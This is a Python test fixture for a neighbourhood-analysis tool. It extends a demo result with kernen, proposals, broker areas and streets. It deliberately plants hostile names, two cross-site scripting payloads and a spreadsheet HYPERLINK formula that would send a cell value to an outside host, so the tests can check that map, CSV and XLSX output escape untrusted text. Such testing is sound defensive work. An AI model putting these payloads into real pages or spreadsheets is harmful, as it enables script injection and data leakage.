"""A demo RunResult extended by hand for the output tests.

It carries what later steps add (``kern`` per buurt, ``kernen``, ``proposals``,
``broker_areas``, ``streets``) and hostile names, so the map, the CSV and the XLSX are
tested with every layer and with untrusted text before those steps exist.
"""

from __future__ import annotations

import dataclasses
import xml.etree.ElementTree as ET
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely

from wijkanalyse.result import RunResult

__all__ = [
    "FORMULA_NAME",
    "HOSTILE_NAMES",
    "KERN_OF_WIJK",
    "demo_result",
    "extend",
    "osm_streets",
]

#: Names that must appear as text: never run, never become markup.
HOSTILE_NAMES = ("<img src=x onerror=alert(1)>", '"><script>alert(1)</script>')
#: A name a spreadsheet would run as a formula.
FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
#: Kern of each demo wijk (wijk 8 is buitengebied: no kern).
KERN_OF_WIJK = {
    "WK999901": "Voorbeeldstad", "WK999902": "Voorbeeldstad", "WK999903": "Voorbeeldstad",
    "WK999904": "Voorbeeldstad", "WK999905": "Oosterdorp", "WK999906": "Noorderhoek", "WK999907": "Westerveld",
}
CRS = "EPSG:28992"


def demo_result(snapshot: Path) -> RunResult:
    """Analyse the demo snapshot with the default config."""
    from wijkanalyse import pipeline
    from wijkanalyse.config import load_config
    from wijkanalyse.sources.files import SnapshotReader

    return pipeline.analyse(SnapshotReader(snapshot), load_config())


def osm_streets(osm_xml: Path) -> gpd.GeoDataFrame:
    """The highway ways of an OSM XML file as lines in EPSG:28992 with their ``name`` (a stand-in for ``result.streets``)."""
    root = ET.parse(osm_xml).getroot()
    nodes = {n.get("id"): (float(n.get("lon")), float(n.get("lat"))) for n in root.iter("node")}
    lines, names = [], []
    for way in root.iter("way"):
        tags = {t.get("k"): t.get("v") for t in way.iter("tag")}
        if "highway" not in tags:
            continue
        coords = [nodes[nd.get("ref")] for nd in way.iter("nd") if nd.get("ref") in nodes]
        if len(coords) >= 2:
            lines.append(shapely.LineString(coords))
            names.append(tags.get("name", ""))
    return gpd.GeoDataFrame({"name": names}, geometry=lines, crs="EPSG:4326").to_crs(CRS)


def extend(result: RunResult, snapshot: Path | None = None) -> RunResult:
    """A copy of a demo ``result`` with kernen, proposals, broker areas, streets and hostile names.

    Buurt 1 and 2 and venue 1 and 2 get the :data:`HOSTILE_NAMES`; buurt 3 gets
    :data:`FORMULA_NAME`. The kernen figures are sums over their buurten; proposals sit on
    the three largest gaps; the broker areas are the town and the villages.
    """
    buurten = result.buurten.copy()
    buurten["kern"] = buurten["wijkcode"].map(KERN_OF_WIJK)
    names = buurten["buurtnaam"].astype(object).to_numpy().copy()
    names[0], names[1], names[2] = HOSTILE_NAMES[0], HOSTILE_NAMES[1], FORMULA_NAME
    buurten["buurtnaam"] = names
    venues = result.venues.copy()
    venue_names = venues["naam"].astype(object).to_numpy().copy()
    venue_names[0], venue_names[1] = HOSTILE_NAMES
    venues["naam"] = venue_names

    rows = []
    for kern, group in buurten[buurten["kern"].notna()].groupby("kern"):
        people = float(group["inwoners"].sum())
        within = float(group["inwoners_binnen_drempel"].sum())
        rows.append({
            "kern": kern, "inwoners": people, "inwoners_binnen_drempel": within,
            "aandeel_binnen_drempel": within / people if people else np.nan,
            "signaal": float(group["signaal"].mean()), "buurtcodes": ",".join(group["buurtcode"]),
        })
    kernen = pd.DataFrame(rows).set_index("kern", drop=False)

    gaps = result.gaps.head(3)
    spots = gaps.geometry.representative_point().to_numpy()
    joined = gpd.sjoin(gpd.GeoDataFrame(geometry=spots, crs=CRS), buurten[["buurtcode", "buurtnaam", "kern", "geometry"]],
                       how="left", predicate="within")
    joined = joined[~joined.index.duplicated(keep="first")]
    new = gaps["inwoners"].to_numpy(dtype=float)
    total = float(result.summary["residents_total"])
    within = float(result.summary["residents_within_threshold"])
    proposals = gpd.GeoDataFrame({
        "rank": np.arange(1, len(gaps) + 1),
        "naam": ["Buurtkamer " + str(i) for i in range(1, len(gaps) + 1)],
        "soort": ["buurtkamer"] * len(gaps),
        "buurtcode": joined["buurtcode"].to_numpy(),
        "buurtnaam": joined["buurtnaam"].to_numpy(),
        "kern": joined["kern"].to_numpy(),
        "nieuw_binnen_bereik": new,
        "cumulatief_binnen_bereik": np.cumsum(new),
        "aandeel_na": (within + np.cumsum(new)) / total,
        "kosten_per_jaar": [25_000.0] * len(gaps),
        "kosten_per_inwoner": 25_000.0 / new,
    }, geometry=spots, crs=CRS)

    town = buurten[buurten["kern"] == "Voorbeeldstad"]
    villages = buurten[buurten["kern"].isin(["Oosterdorp", "Noorderhoek", "Westerveld"])]
    broker_areas = gpd.GeoDataFrame({
        "gebied_id": [1, 2],
        "buurtcodes": [",".join(town["buurtcode"]), ",".join(villages["buurtcode"])],
        "kernen": ["Voorbeeldstad", "Oosterdorp,Noorderhoek,Westerveld"],
        "inwoners": [float(town["inwoners"].sum()), float(villages["inwoners"].sum())],
        "werklast": [1.4, 0.8],
    }, geometry=[town.union_all(), villages.union_all().convex_hull], crs=CRS)

    extended = dataclasses.replace(result, buurten=buurten, venues=venues)
    extended.kernen = kernen
    extended.proposals = proposals
    extended.broker_areas = broker_areas
    if getattr(result, "streets", None) is None:
        if snapshot is not None and (snapshot / "osm.xml").is_file():
            extended.streets = osm_streets(snapshot / "osm.xml")
        else:  # no street network at hand: the buurt outlines stand in for it
            extended.streets = gpd.GeoDataFrame(geometry=buurten.boundary.to_numpy(), crs=CRS)
    return extended
